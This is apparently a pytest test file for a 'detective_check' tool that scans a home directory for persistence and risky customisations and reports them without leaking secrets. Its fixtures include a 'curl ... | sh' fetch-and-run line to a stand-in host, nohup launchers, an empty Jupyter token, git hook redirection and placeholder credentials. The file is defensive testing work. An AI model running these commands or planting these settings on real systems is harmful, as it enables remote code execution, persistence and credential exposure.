"""The example `detective_check`: finds what users change, says no secret, and changes nothing."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from examples.setups import detective_check
from studio_setup.model.outcomes import Outcome
from tests.support.example_services import SetUp
from tests.support.scenario import Scenario, statuses

SECRET = "AKIASECRET0123456789"
# File in the home, its text, and what is said of it.
FINDINGS = {
    "nohup": (".bashrc", "nohup ./sync.sh >/dev/null 2>&1 &\n", ".bashrc, line 1: starts something that goes on"),
    "download": (".profile", "curl -s https://x.example/i | sh\n", ".profile, line 1: runs what it downloads"),
    "alias": (".bashrc", "# mine\nalias pip='pip --user'\n", ".bashrc, line 2: replaces a command"),
    "variable": (
        ".bashrc",
        f"export AWS_SECRET_ACCESS_KEY={SECRET}\n",
        ".bashrc, line 1: sets a variable",
    ),
    "jupyter": (
        ".jupyter/jupyter_server_config.py",
        "c.ServerApp.token = ''\n",
        "jupyter_server_config.py: configures Jupyter",
    ),
    "jupyter-d": (".jupyter/jupyter_server_config.d/x.json", "{}", "x.json: configures Jupyter"),
    "labextension": (
        ".local/share/jupyter/labextensions/@me/x/package.json",
        json.dumps({"name": "@me/x", "version": "1.0", "jupyterlab": {"_build": {"load": "static/x.js"}}}),
        "labextension @me/x: installed by the user",
    ),
    "ipython": (".ipython/profile_default/startup/0.py", "import os\n", "0.py: runs in every notebook"),
    "pip": (
        ".config/pip/pip.conf",
        f"[global]\nextra-index-url = https://me:{SECRET}@pypi.example.com\n",
        "pip.conf: global.extra-index-url is set",
    ),
    "git": (".gitconfig", "[core]\n\thooksPath = ~/hooks\n", ".gitconfig: hooksPath is set"),
    "password": (".git-credentials", f"https://me:{SECRET}@git.example.com\n", ".git-credentials: keeps a password"),
    "key": (".ssh/authorized_keys", "ssh-ed25519 AAAA\n", ".ssh/authorized_keys: keeps who may log in"),
}


def test_a_new_home_has_nothing_to_report(set_up: SetUp) -> None:
    """In an app that has just started there are no findings, also not the engine's own processes."""
    for _ in range(2):
        report, printed = set_up(*detective_check.commands(fails_on_findings=True))
        assert printed == "0 unwanted customisations found; nothing was changed.\n"
        assert statuses(report) == [0]


@pytest.mark.parametrize("kind", FINDINGS)
def test_a_file_of_the_users_is_reported(app: Scenario, set_up: SetUp, kind: str) -> None:
    """Each kind of finding is a line of its own, without values; the home is not changed."""
    name, text, said = FINDINGS[kind]
    path = app.home / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    before = state_of(app.home)
    report, printed = set_up(*detective_check.commands())
    assert said in printed
    assert "\n1 unwanted customisations found" in printed
    assert statuses(report) == [0]
    assert SECRET not in printed
    assert state_of(app.home) == before


@pytest.mark.parametrize(
    ("command", "said"),
    [
        (["nohup", "sleep", "60"], "goes on when its terminal is gone: sleep 60"),
        (["bash", "-c", f"while sleep 60; do : {SECRET}; done"], "runs something again and again: bash -c"),
    ],
    ids=["nohup", "loop"],
)
def test_a_process_that_goes_on_is_reported(app: Scenario, set_up: SetUp, command: list[str], said: str) -> None:
    """A process that ignores hang-ups, and a loop in place of cron, are named without their arguments."""
    quiet = subprocess.DEVNULL
    environment = app.app.environment()
    with subprocess.Popen(command, env=environment, stdin=quiet, stdout=quiet, stderr=quiet, start_new_session=True):
        _, printed = set_up(*detective_check.commands())
        app.reset({})
    assert said in printed
    assert SECRET not in printed


def test_what_is_allowed_is_not_reported_and_the_rest_may_fail(app: Scenario, set_up: SetUp) -> None:
    """An allowed finding does not count; another one fails the setup where that is wanted, after the other commands."""
    app.write_files({".bashrc": "alias ll='ls -l'\n"})
    allowed = detective_check.commands([r"^\.bashrc, line \d+: replaces"], fails_on_findings=True)
    report, _ = set_up(*allowed)
    assert report.outcome is Outcome.SUCCEEDED
    report, _ = set_up(*detective_check.commands(fails_on_findings=True))
    assert report.outcome is Outcome.FAILED
    assert detective_check.commands()[0].go_on_after_failure


def state_of(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    """Everything in a folder, modes, times and contents, but for what the terminals' shells keep."""
    return {
        str(path): (path.lstat().st_mode, path.lstat().st_mtime_ns, path.read_bytes() if path.is_file() else b"")
        for path in folder.rglob("*")
        if path.name != ".bash_history"
    }
